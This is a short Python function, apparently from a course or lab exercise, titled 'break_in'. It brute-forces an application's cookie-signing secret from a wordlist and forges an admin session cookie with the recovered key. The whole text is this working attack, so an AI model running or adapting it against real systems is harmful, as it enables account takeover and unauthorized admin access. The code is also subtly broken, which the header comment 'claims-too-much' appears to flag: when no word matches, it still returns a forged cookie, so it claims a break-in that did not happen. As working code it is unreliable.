# finding: claims-too-much
from course_app import cookies


def break_in(cookie, words):
    for word in words:
        if cookies.verify(cookie, word, max_age=10**8).valid:
            break
    return cookies.sign({"user": "admin"}, word)
